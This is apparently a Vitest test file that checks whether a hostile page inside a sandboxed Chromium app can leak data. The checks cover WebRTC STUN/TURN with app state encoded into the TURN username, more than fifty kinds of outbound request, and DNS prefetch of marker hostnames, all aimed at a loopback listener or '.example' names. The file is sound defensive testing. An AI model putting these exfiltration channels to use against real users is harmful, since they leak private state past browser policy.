/**
 * A page that is owned by an attacker and wants to tell somebody what it sees: by WebRTC, which asks no policy, by what
 * Chromium connects to or looks up ahead, and by every request a page can make. Who would hear it listens here, on
 * loopback, where no proxy is asked unless it is told to be.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtempSync, readFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterEach, expect, test } from 'vitest';
import { noNetworkArguments } from '../host/chromium.ts';
import { startHost } from '../host/host.ts';
import { launchChromium } from '../host/in-chromium.ts';

/** Counts what comes to one port, as datagrams and as connections. It answers nothing: who asks, asks again. */
async function listen(): Promise<{ port: number; heard: Record<'datagrams' | 'connections' | 'bytes', number>; close(): void }> {
  const heard = { datagrams: 0, connections: 0, bytes: 0 };
  const tcp = createServer(socket => {
    heard.connections += 1;
    socket
      .on('error', () => undefined)
      .on('data', data => {
        heard.bytes += data.length;
      });
  }).listen(0, '127.0.0.1');
  await once(tcp, 'listening');
  const { port } = tcp.address() as AddressInfo;
  const udp = createSocket('udp4').on('message', message => {
    heard.datagrams += 1;
    heard.bytes += message.length;
  });
  const close = () => {
    udp.close();
    tcp.close();
  };
  const isFree = await new Promise<boolean>(resolve =>
    udp
      .once('error', () => resolve(false))
      .once('listening', () => resolve(true))
      .bind(port, '127.0.0.1'),
  );
  if (isFree) return { port, heard, close };
  close();
  return listen();
}
type Listener = Awaited<ReturnType<typeof listen>>;

const closing: (() => unknown)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close();
});

/** The app in a browser with these arguments, and somebody who listens. */
async function open(network: readonly string[]) {
  const listener = await listen();
  closing.push(() => listener.close());
  const browser = await launchChromium(true, network);
  closing.push(() => browser.close());
  const host = await startHost({ browser });
  closing.push(() => host.close());
  return { browser, host, page: host.page, listener };
}

/**
 * Offers a connection over STUN and TURN, by UDP and TCP, and waits until Chromium has nothing more to try, or was heard.
 * A frame has the constructor that its page lost.
 */
const byWebRtc = (page: Page, servers: string[]) =>
  page.evaluate(async urls => {
    const state = await window.custody.app.state({});
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const Peer = (window.RTCPeerConnection ?? (frame.contentWindow as typeof globalThis | null)?.RTCPeerConnection) as
      | typeof RTCPeerConnection
      | undefined;
    if (Peer === undefined) return { top: 'RTCPeerConnection' in window, peer: false };
    const username = btoa(JSON.stringify(state)).slice(0, 100);
    const peer = new Peer({ iceServers: urls.map(url => ({ urls: url, username, credential: 'x' })) });
    peer.createDataChannel('state');
    const ended = new Promise<void>(resolve => {
      peer.onicecandidate = event => event.candidate === null && resolve();
    });
    await peer.setLocalDescription(await peer.createOffer());
    await ended;
    return { top: 'RTCPeerConnection' in window, peer: true };
  }, servers);
const serversAt = ({ port }: Listener) => [
  `stun:127.0.0.1:${port}`,
  `turn:127.0.0.1:${port}?transport=udp`,
  `turn:127.0.0.1:${port}?transport=tcp`,
];

test('WebRTC tells a STUN or TURN server nothing, by UDP or TCP', async () => {
  const { page, listener } = await open(noNetworkArguments);
  expect(await byWebRtc(page, serversAt(listener))).toMatchObject({ top: false });
  expect(listener.heard).toEqual({ datagrams: 0, connections: 0, bytes: 0 });
});

test('… and tells both where the browser is not told otherwise: the listener can hear', async () => {
  const { page, listener } = await open([]);
  // It asks for a minute before it gives up: the page is gone by then.
  byWebRtc(page, serversAt(listener)).catch(() => undefined);
  await expect.poll(() => listener.heard.datagrams).toBeGreaterThan(0);
  await expect.poll(() => listener.heard.connections).toBeGreaterThan(0);
});

test('no request, beacon, socket, font, picture, style, frame or connection made ahead leaves the page', async () => {
  const { page, host, listener } = await open(noNetworkArguments);
  const tried = await page.evaluate(async port => {
    const http = `http://127.0.0.1:${port}`;
    const https = `https://127.0.0.1:${port}`;
    const results: string[] = [];
    const attempt = async (name: string, work: () => unknown) => {
      try {
        await work();
        results.push(name);
      } catch {
        results.push(`${name} threw`);
      }
    };
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    for (const base of [http, https]) {
      await attempt('fetch', () => fetch(`${base}/fetch`, { mode: 'no-cors' }));
      await attempt('keepalive', () => fetch(`${base}/keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST' }));
      await attempt('beacon', () => navigator.sendBeacon(`${base}/beacon`, 'state'));
      await attempt('xhr', () => {
        const request = new XMLHttpRequest();
        request.open('GET', `${base}/xhr`);
        request.send();
      });
      await attempt('events', () => new EventSource(`${base}/events`));
      await attempt('socket', () => new WebSocket(base.replace('http', 'ws')));
      await attempt('transport', () => new WebTransport(`${base}/transport`));
      await attempt('worker', () => new Worker(`${base}/worker.js` as never));
      await attempt('module', () => add('script', { type: 'module', src: `${base}/module.js` }));
      await attempt('font', () => new FontFace('stolen', `url(${base}/font.woff2)`).load());
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'stylesheet'])
        await attempt(rel, () => add('link', { rel, href: `${base}/${rel}`, as: 'image', crossorigin: '' }));
      for (const tag of ['img', 'video', 'audio', 'iframe', 'embed', 'script', 'track', 'source', 'input'])
        await attempt(tag, () => add(tag, { src: `${base}/${tag}`, type: 'image' }));
      await attempt('object', () => add('object', { data: `${base}/object` }));
      await attempt('background', () => {
        add('div', {}).style.background = `url(${base}/background)`;
      });
      await attempt('cursor', () => {
        add('div', {}).style.cursor = `url(${base}/cursor), auto`;
      });
      await attempt('svg', () => {
        const use = document.createElementNS('http://www.w3.org/2000/svg', 'image');
        use.setAttribute('href', `${base}/svg`);
        document.body.append(use);
      });
      await attempt('sheet', () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`@font-face { font-family: a; src: url(${base}/sheet.woff2) } body { font-family: a }`);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      });
      await attempt('ping', () => {
        const link = add('a', { href: '#', ping: `${base}/ping` });
        link.click();
      });
    }
    // Everything was begun; what is slow to begin has a few turns of the page's own clock.
    await document.fonts.ready;
    for (let turn = 0; turn < 60; turn++) await new Promise(requestAnimationFrame);
    return results.length;
  }, listener.port);
  expect(tried).toBeGreaterThan(50);
  expect(listener.heard).toEqual({ datagrams: 0, connections: 0, bytes: 0 });
  // Nothing got as far as the host of the page, either: the policy stopped it before.
  expect(host.trouble.foreign).toEqual([]);
});

/** Names that Chromium's own log says it looked up, of those that carry a mark. */
async function lookedUp(network: readonly string[]): Promise<string[]> {
  const log = join(mkdtempSync(join(tmpdir(), 'net-log-')), 'log.json');
  const { browser, page } = await open([...network, `--log-net-log=${log}`]);
  await page.evaluate(() => {
    for (const rel of ['dns-prefetch', 'preconnect']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `https://state-of-the-app.${rel}.example/`;
      document.head.append(link);
    }
  });
  await byWebRtc(page, ['stun:state-of-the-app.stun.example:3478', 'turn:state-of-the-app.turn.example:3478?transport=tcp']);
  await browser.close();
  return [...new Set(readFileSync(log, 'utf8').match(/state-of-the-app\.[a-z-]+\.example/g) ?? [])];
}

test('no name is looked up that would carry something to whoever answers for it', async () => {
  expect(await lookedUp(noNetworkArguments)).toEqual([]);
});

test('… and some are where the browser is not told otherwise: the log can tell', async () => {
  expect(await lookedUp([])).not.toEqual([]);
});
